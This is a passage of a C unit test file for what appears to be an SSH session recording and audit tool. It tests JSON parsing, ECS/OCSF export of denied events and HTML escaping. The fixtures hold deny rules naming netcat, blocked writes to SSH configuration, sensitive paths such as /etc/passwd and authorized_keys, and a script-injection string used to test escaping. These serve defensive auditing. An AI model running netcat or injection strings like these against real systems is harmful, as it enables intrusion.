	assert_int_equal(json_object_get_int64(path_get(d, "duration")), 43250);
	assert_int_equal(json_object_get_int(path_get(d, "logon_type_id")), 10);
	json_object_put(d);

	d = map(rec_loss, 1, &un);
	assert_null(d);
	assert_true(un);
}

/* session.denied records: an enforced exec, an audited connect, an enforced write. */
#define REC_DENIED_HEAD                                                                            \
	"{\"event\":\"session.denied\",\"code\":\"SR4020W\",\"time\":"                             \
	"\"2026-01-05T08:00:04Z\",\"ei\":8,\"uid\":\"u8\",\"sid\":\"s1\",\"server_id\":"           \
	"\"srv-1\",\"server_hostname\":\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\","      \
	"\"cgroup_id\":7,\"audit_session_id\":4,\"pid\":2001,\"ppid\":2000,\"program\":"           \
	"\"bash\","
static const char rec_denied_exec[] =
    REC_DENIED_HEAD "\"kind\":\"exec\",\"action\":1,\"target\":\"/usr/bin/nc\",\"path\":"
                    "\"/usr/bin/nc\",\"dst_addr\":null,\"dst_port\":null,\"version\":null,"
                    "\"flags_text\":null,\"rule\":\"deny_exec.group.staff = /usr/bin/nc\","
                    "\"policy_mode\":\"enforced\","
                    "\"mechanism\":\"lsm\",\"effect\":\"blocked\",\"process_id\":12}";
/* record format 2: "action" and "mode" were strings */
static const char rec_denied_connect[] =
    REC_DENIED_HEAD "\"action\":\"connect\",\"target\":\"10.1.2.3:22\",\"path\":null,"
                    "\"dst_addr\":\"10.1.2.3\",\"dst_port\":22,\"version\":4,"
                    "\"flags_text\":null,\"rule\":\"deny_connect = 10.0.0.0/8\",\"mode\":"
                    "\"audit\",\"mechanism\":\"signal\",\"effect\":\"audit\",\"process_id\":12}";
static const char rec_denied_write[] =
    REC_DENIED_HEAD "\"kind\":\"write\",\"action\":1,\"target\":\"/etc/ssh/sshd_config\","
                    "\"path\":\"/etc/ssh/sshd_config\",\"dst_addr\":null,\"dst_port\":null,"
                    "\"version\":null,\"flags_text\":\"O_WRONLY|O_TRUNC\",\"rule\":"
                    "\"deny_write = /etc/ssh/*\",\"policy_mode\":\"enforced\",\"mechanism\":"
                    "\"signal\",\"effect\":\"killed_after\",\"process_id\":12}";

static void test_denied_text(void **state)
{
	char b[512];

	(void)state;
	assert_string_equal(sr_denied_text("exec", "/usr/bin/nc", "deny_exec = /usr/bin/nc",
	                                   "enforced", "signal", "killed", b, sizeof(b)),
	                    "exec /usr/bin/nc denied by deny_exec = /usr/bin/nc: killed before the "
	                    "new program ran (signal)");
	assert_string_equal(sr_denied_text("connect", "10.1.2.3:22", "deny_connect = 10.0.0.0/8",
	                                   "enforced", "signal", "killed_after", b, sizeof(b)),
	                    "connect 10.1.2.3:22 denied by deny_connect = 10.0.0.0/8: killed in "
	                    "connect(2), the SYN may have been sent (signal)");
	assert_string_equal(
	    sr_denied_text("write", "/etc/x", "deny_write = /etc/*", "enforced", "signal",
	                   "killed_after", b, sizeof(b)),
	    "write /etc/x denied by deny_write = /etc/*: killed in open(2), the file "
	    "may have been opened (signal)");
	assert_string_equal(
	    sr_denied_text("write", "/etc/x", "deny_write = /etc/*", "enforced", "lsm", "blocked",
	                   b, sizeof(b)),
	    "write /etc/x denied by deny_write = /etc/*: refused with EPERM, it did "
	    "not happen (lsm)");
	assert_string_equal(sr_denied_text("exec", "/bin/x", "deny_exec = /bin/x", "audit", "lsm",
	                                   "audit", b, sizeof(b)),
	                    "exec /bin/x matches deny_exec = /bin/x: allowed (audit mode)");
	assert_string_equal(
	    sr_denied_text("exec", "/bin/x", NULL, "enforced", "signal", "not_applied", b,
	                   sizeof(b)),
	    "exec /bin/x denied by an unknown rule: NOT APPLIED, the kernel could not "
	    "deliver the verdict (signal)");
}

static void test_denied_export(void **state)
{
	static const char *const ecs_denied[] = {
	    "rule.name",        "file.path",     "sshrec.kind", "sshrec.policy_mode",
	    "sshrec.mechanism", "sshrec.effect", NULL};
	bool un;
	json_object *d;

	(void)state;
	d = map(rec_denied_exec, 0, &un);
	require_fields(d, ecs_base, "ecs denied exec");
	require_fields(d, ecs_denied, "ecs denied exec");
	assert_string_equal(json_object_get_string(path_get(d, "event.outcome")), "failure");
	assert_string_equal(json_object_get_string(path_get(d, "event.type")), "[ \"denied\" ]");
	assert_string_equal(json_object_get_string(path_get(d, "event.category")),
	                    "[ \"intrusion_detection\", \"process\" ]");
	assert_string_equal(json_object_get_string(path_get(d, "rule.name")),
	                    "deny_exec.group.staff = /usr/bin/nc");
	json_object_put(d);
	d = map(rec_denied_connect, 0, &un);
	/* format 2 reads the same: its string action and mode */
	require_fields(d, ecs_denied + 2, "ecs denied connect (format 2)");
	assert_string_equal(json_object_get_string(path_get(d, "sshrec.kind")), "connect");
	assert_string_equal(json_object_get_string(path_get(d, "sshrec.policy_mode")), "audit");
	assert_string_equal(json_object_get_string(path_get(d, "event.outcome")), "success");
	assert_string_equal(json_object_get_string(path_get(d, "event.type")), "[ \"allowed\" ]");
	assert_string_equal(json_object_get_string(path_get(d, "destination.ip")), "10.1.2.3");
	assert_int_equal(json_object_get_int(path_get(d, "destination.port")), 22);
	json_object_put(d);

	/* an accept: Open, Inbound; a UDP send: Traffic over UDP, Outbound */
	d = map(rec_net_accept, 1, &un);
	require_fields(d, ocsf_4001, "ocsf accept");
	assert_int_equal(json_object_get_int(path_get(d, "activity_id")), 1);
	assert_string_equal(json_object_get_string(path_get(d, "activity_name")), "Open");
	assert_int_equal(json_object_get_int(path_get(d, "connection_info.direction_id")), 1);
	assert_string_equal(json_object_get_string(path_get(d, "connection_info.direction")),
	                    "Inbound");
	assert_string_equal(json_object_get_string(path_get(d, "src_endpoint.ip")), "2001:db8::9");
	assert_int_equal(json_object_get_int(path_get(d, "status_id")), 1);
	json_object_put(d);
	d = map(rec_net_udp, 1, &un);
	require_fields(d, ocsf_4001, "ocsf udp send");
	assert_int_equal(json_object_get_int(path_get(d, "activity_id")), 6);
	assert_string_equal(json_object_get_string(path_get(d, "activity_name")), "Traffic");
	assert_int_equal(json_object_get_int(path_get(d, "connection_info.protocol_num")), 17);
	assert_string_equal(json_object_get_string(path_get(d, "connection_info.protocol_name")),
	                    "udp");
	assert_int_equal(json_object_get_int(path_get(d, "connection_info.direction_id")), 2);
	assert_int_equal(json_object_get_int(path_get(d, "status_id")), 0);
	json_object_put(d);

	/* the session.network of a refused connect: denied (ECS), Refuse (OCSF) */
	d = map(rec_net_denied, 0, &un);
	assert_string_equal(json_object_get_string(path_get(d, "event.type")),
	                    "[ \"connection\", \"denied\" ]");
	assert_string_equal(json_object_get_string(path_get(d, "event.outcome")), "failure");
	json_object_put(d);
	d = map(rec_net_denied, 1, &un);
	require_fields(d, ocsf_4001, "ocsf refused connect");
	assert_int_equal(json_object_get_int(path_get(d, "activity_id")), 5);
	assert_string_equal(json_object_get_string(path_get(d, "activity_name")), "Refuse");
	assert_int_equal(json_object_get_int(path_get(d, "status_id")), 2);
	json_object_put(d);

	d = map(rec_denied_exec, 1, &un);
	require_fields(d, ocsf_1007, "ocsf denied exec");
	assert_int_equal(json_object_get_int(path_get(d, "class_uid")), 1007);
	assert_int_equal(json_object_get_int(path_get(d, "disposition_id")), 2);
	assert_string_equal(json_object_get_string(path_get(d, "disposition")), "Blocked");
	assert_int_equal(json_object_get_int(path_get(d, "action_id")), 2);
	assert_string_equal(json_object_get_string(path_get(d, "metadata.profiles")),
	                    "[ \"host\", \"security_control\" ]");
	assert_string_equal(json_object_get_string(path_get(d, "process.file.path")),
	                    "/usr/bin/nc");
	assert_int_equal(json_object_get_int(path_get(d, "status_id")), 2);
	json_object_put(d);
	d = map(rec_denied_connect, 1, &un);
	require_fields(d, ocsf_4001, "ocsf denied connect");
	assert_int_equal(json_object_get_int(path_get(d, "disposition_id")), 17);
	assert_string_equal(json_object_get_string(path_get(d, "disposition")), "Logged");
	assert_int_equal(json_object_get_int(path_get(d, "action_id")), 1);
	assert_int_equal(json_object_get_int(path_get(d, "activity_id")), 1);
	json_object_put(d);
	d = map(rec_denied_write, 1, &un);
	require_fields(d, ocsf_1001, "ocsf denied write");
	assert_int_equal(json_object_get_int(path_get(d, "disposition_id")), 2);
	assert_string_equal(json_object_get_string(path_get(d, "file.path")),
	                    "/etc/ssh/sshd_config");
	assert_string_equal(json_object_get_string(path_get(d, "unmapped.effect")), "killed_after");
	json_object_put(d);
}

/* The scanner: escapes, surrogate pairs, duplicate keys, a top-level array,
 * and malformed text refused. */
/*
 * A mknod of a char device (format 7) in ECS and OCSF: its node type, its
 * numbers; a path with a trailing '/' (a failed mknod) still gives one
 * file.type, the node's, not "dir" as well.
 */
static const char rec_mknod[] =
    "{\"event\":\"session.disk\",\"code\":\"T4001I\",\"time\":\"2026-01-05T08:00:01.6Z\","
    "\"ei\":4,\"uid\":\"u4\",\"sid\":\"s1\",\"server_id\":\"srv-1\",\"server_hostname\":"
    "\"bastion-1\",\"login\":\"alice\",\"user\":\"alice\",\"cgroup_id\":7,"
    "\"audit_session_id\":4,\"pid\":2001,\"ppid\":2000,\"program\":\"mknod\",\"change\":"
    "\"mknod\",\"path\":\"/dev/shm/n/\",\"flags\":0,\"path_resolved\":true,\"mode\":384,"
    "\"file_type\":\"char\",\"device_major\":1,\"device_minor\":3,\"return_code\":-20,"
    "\"process_id\":12}";

static void test_export_mknod(void **state)
{
	struct sr_exp_ctx ctx = {.sess = &test_sess, .proc = &test_proc};
	struct sr_jrec r = {0};
	struct sr_jw w = {0};
	json_object *d;
	char *t;
	bool un;

	(void)state;
	d = map(rec_mknod, 0, &un);
	assert_string_equal(json_object_get_string(path_get(d, "event.type")), "[ \"creation\" ]");
	assert_string_equal(json_object_get_string(path_get(d, "file.mode")), "600");
	assert_int_equal(json_object_get_int(path_get(d, "sshrec.device_major")), 1);
	assert_int_equal(json_object_get_int(path_get(d, "sshrec.device_minor")), 3);
	json_object_put(d);
	d = map(rec_mknod, 1, &un);
	assert_int_equal(json_object_get_int(path_get(d, "activity_id")), 1); /* Create */
	assert_int_equal(json_object_get_int(path_get(d, "file.type_id")), 3);
	assert_string_equal(json_object_get_string(path_get(d, "file.type")), "Character Device");
	assert_int_equal(json_object_get_int(path_get(d, "unmapped.device_minor")), 3);
	json_object_put(d);
	/* the raw text: json-c keeps only the last of two equal keys */
	assert_int_equal(sr_jrec_parse(&r, rec_mknod, strlen(rec_mknod)), 0);
	assert_int_equal(sr_ecs_write(&r, &ctx, &w), 0);
	t = strndup(w.b, w.len); /* the writer's buffer has no NUL */
	assert_non_null(t);
	assert_non_null(strstr(t, "\"type\":\"char\""));
	assert_null(strstr(strstr(t, "\"type\":\"char\"") + 1, "\"type\":\"char\""));
	assert_null(strstr(t, "\"type\":\"dir\""));
	free(t);
	sr_jw_free(&w);
	sr_jrec_free(&r);
}

/* sr_describe() of file changes: the timeline's one line for each. */
static void check_describe(const char *json, const char *want)
{
	json_object *o = json_tokener_parse(json);
	char buf[512];

	assert_non_null(o);
	sr_describe(o, "session.disk", buf, sizeof(buf));
	assert_string_equal(buf, want);
	json_object_put(o);
}

static void test_describe_fchange(void **state)
{
	(void)state;
	check_describe("{\"change\":\"mknod\",\"path\":\"/t/p\",\"mode\":420,"
	               "\"file_type\":\"fifo\",\"return_code\":0}",
	               "mknod /t/p fifo 0644 = 0");
	check_describe("{\"change\":\"mknod\",\"path\":\"/t/n\",\"mode\":384,"
	               "\"file_type\":\"char\",\"device_major\":1,\"device_minor\":3,"
	               "\"return_code\":null}",
	               "mknod /t/n char 1:3 0600 = ?");
	check_describe("{\"change\":\"mkdir\",\"path\":\"/t/d\",\"mode\":488,"
	               "\"return_code\":-13}",
	               "mkdir /t/d 0750 = EACCES");
	check_describe("{\"change\":\"exchange\",\"path\":\"/t/a\",\"new_path\":\"/t/b\","
	               "\"return_code\":0}",
	               "exchange /t/a <-> /t/b = 0");
}

static void test_jscan(void **state)
{
	static const char *const bad[] = {
	    "",
	    "{",
	    "{\"a\":}",
	    "{\"a\":1,}",
	    "{\"a\" 1}",
	    "{\"a\":01}",
	    "{\"a\":\"x}",
	    "{\"a\":\"\\q\"}",
	    "{\"a\":tru}",
	    "{\"a\":1} x",
	    "[1]",
	    "{\"a\":\"\x01\"}",
	    "{\"a\":[1,]}",
	    "{\"a\":-}",
	    "{\"a\":1.}",
	};
	const char *txt = "{\"s\":\"a\\u00e9\\ud83d\\ude00\\n\\/\\ud800\",\"n\":-12,\"d\":2.5e1,"
	                  "\"t\":true,\"z\":null,\"o\":{\"k\":[1,{\"x\":\"y\"}]},"
	                  "\"v\":[\"p\",\"q\\\"r\",3],\"n\":7}";
	struct sr_jrec r = {0};
	const struct sr_jval *v;
	size_t i;

	(void)state;
	assert_int_equal(sr_jrec_parse(&r, txt, strlen(txt)), 0);
	assert_string_equal(sr_jrec_str(&r, "s"), "a\xc3\xa9\xf0\x9f\x98\x80\n/\xef\xbf\xbd");
	assert_int_equal(sr_jrec_int(&r, "n", 0), 7); /* the last duplicate wins */
	assert_int_equal(sr_jrec_int(&r, "d", 0), 25);
	assert_true(sr_jrec_bool(&r, "t"));
	assert_false(sr_jrec_has(&r, "z"));
	assert_int_equal(sr_jrec_int(&r, "z", -1), -1);
	assert_int_equal(sr_jrec_int(&r, "missing", -2), -2);
	assert_null(sr_jrec_str(&r, "n"));
	v = sr_jrec_get(&r, "o");
	assert_int_equal(v->t, SR_JT_OBJ);
	assert_int_equal(v->len, strlen("{\"k\":[1,{\"x\":\"y\"}]}"));
	v = sr_jrec_get(&r, "v");
	assert_int_equal(v->t, SR_JT_ARR);
	assert_int_equal(v->n, 3);
	assert_string_equal(r.el[v->first + 1].s, "q\"r");
	assert_int_equal(r.el[v->first + 2].i, 3);
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		if (sr_jrec_parse(&r, bad[i], strlen(bad[i])) != -EINVAL)
			fail_msg("accepted malformed JSON: %s", bad[i]);
	assert_int_equal(sr_jrec_parse_array(&r, "[\"a\", \"b\"]", 10), 0);
	assert_int_equal(r.nel, 2);
	sr_jrec_free(&r);
}

/* The writer: json-c's escapes, invalid UTF-8 sanitized, nesting. */
static void test_jwrite(void **state)
{
	struct sr_jw w = {0};

	(void)state;
	sr_jw_reset(&w);
	sr_jw_obj(&w, NULL);
	sr_jw_str(&w, "a", "q\"\\/\x1b\n\x7f\xc3\xa9");
	sr_jw_str(&w, "skipped", NULL);
	sr_jw_strn(&w, "bad", "x\xff\xc3", 3);
	sr_jw_arr(&w, "l");
	sr_jw_int(&w, NULL, INT64_MIN);
	sr_jw_bool(&w, NULL, false);
	sr_jw_obj(&w, NULL);
	sr_jw_end(&w);
	sr_jw_end(&w);
	sr_jw_end(&w);
	sr_jw_put(&w, "", 1);
	assert_int_equal(sr_jw_error(&w), 0);
	assert_string_equal(w.b,
	                    "{\"a\":\"q\\\"\\\\/\\u001b\\n\\u007f\xc3\xa9\","
	                    "\"bad\":\"x\\\\xff\\\\xc3\",\"l\":[-9223372036854775808,false,{}]}");
	sr_jw_free(&w);
}

/* A table with a minimum width keeps later (streamed) rows aligned. */
static void test_table_min_width(void **state)
{
	static const char *head[] = {"A", "B"};
	const char *r1[] = {"x", "1"}, *r2[] = {"yyyy", "2"};
	struct sr_table t;
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	(void)state;
	assert_int_equal(sr_table_init(&t, 2, head), 0);
	sr_table_stream(&t, f, false, 1);
	sr_table_min_width(&t, 0, 4);
	sr_table_min_width(&t, 1, 0); /* never narrower than the header */
	assert_int_equal(sr_table_add(&t, r1), 0);
	sr_table_print(&t, f, false);
	assert_int_equal(sr_table_add(&t, r2), 0);
	sr_table_print(&t, f, false);
	sr_table_free(&t);
	fclose(f);
	assert_string_equal(buf, "A     B\nx     1\nyyyy  2\n");
	free(buf);
}

static struct sr_attach att(const char *path, uint64_t flags)
{
	return (struct sr_attach){.path = (char *)path, .flags = flags};
}

/* What the report folds as noise, and what it lists as written. */
static void test_report_noise(void **state)
{
	static const char *const routine[] = {
	    "/lib/x86_64-linux-gnu/libc.so.6",
	    "/usr/lib/x86_64-linux-gnu/libpam.so.0.85.1",
	    "/lib64/ld-linux-x86-64.so.2",
	    "/usr/lib/security/pam_unix.so",
	    "/etc/ld.so.cache",
	    "/usr/lib/locale/locale-archive",
	    "/usr/share/locale/de/LC_MESSAGES/coreutils.mo",
	    "/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.cache",
	    "/proc/self/status",
	    "/proc",
	};
	static const char *const not_routine[] = {
	    "/etc/passwd",   "/home/u/.ssh/authorized_keys",
	    "/tmp/x.sock",   "/tmp/so",
	    "/tmp/a.sox",    "/procfs/x",
	    "/etc/hostname",
	};
	struct sr_attach a, net = {.network = true, .text = (char *)"connect"};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(routine) / sizeof(routine[0]); i++) {
		a = att(routine[i], 0x80000); /* O_RDONLY|O_CLOEXEC */
		assert_true(rp_is_routine(&a));
		assert_false(rp_is_write(&a));
		a.flags = 01 | 0100; /* a write is never routine */
		assert_false(rp_is_routine(&a));
		assert_true(rp_is_write(&a));
	}
	for (i = 0; i < sizeof(not_routine) / sizeof(not_routine[0]); i++) {
		a = att(not_routine[i], 0);
		assert_false(rp_is_routine(&a));
	}
	a = att("/tmp/t", 01000); /* O_TRUNC alone */
	assert_true(rp_is_write(&a));
	a = att("/dev/null", 01);
	assert_true(rp_is_write(&a) && rp_is_device(&a));
	a = att("/devx", 01);
	assert_false(rp_is_device(&a));
	assert_false(rp_is_routine(&net) || rp_is_write(&net));
}

static void test_report_html(void **state)
{
	char *buf = NULL, t[32];
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	(void)state;
	rp_html(f, "<script>alert('x')</script> & \"\x1b[2J\n");
	fclose(f);
	assert_string_equal(buf, "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; "
	                         "&quot;\\x1b[2J\\x0a");
	free(buf);
	assert_string_equal(rp_clock(1767600001234567LL, t, sizeof(t)), "08:00:01.234");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_shell_quote),
	    cmocka_unit_test(test_argv_join),
	    cmocka_unit_test(test_argv_escape),
	    cmocka_unit_test(test_argv_join_parity),
	    cmocka_unit_test(test_put_term),
	    cmocka_unit_test(test_duration),
	    cmocka_unit_test(test_fmt_int),
	    cmocka_unit_test(test_names),
	    cmocka_unit_test(test_table),
	    cmocka_unit_test(test_table_stream),
	    cmocka_unit_test(test_ecs),
	    cmocka_unit_test(test_ocsf),
	    cmocka_unit_test(test_denied_text),
	    cmocka_unit_test(test_denied_export),
	    cmocka_unit_test(test_export_mknod),
	    cmocka_unit_test(test_describe_fchange),
	    cmocka_unit_test(test_jscan),
	    cmocka_unit_test(test_jwrite),
	    cmocka_unit_test(test_table_min_width),
	    cmocka_unit_test(test_report_noise),
	    cmocka_unit_test(test_report_html),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);

	sr_exp_proc_clear(&test_proc);
	return rc;
}
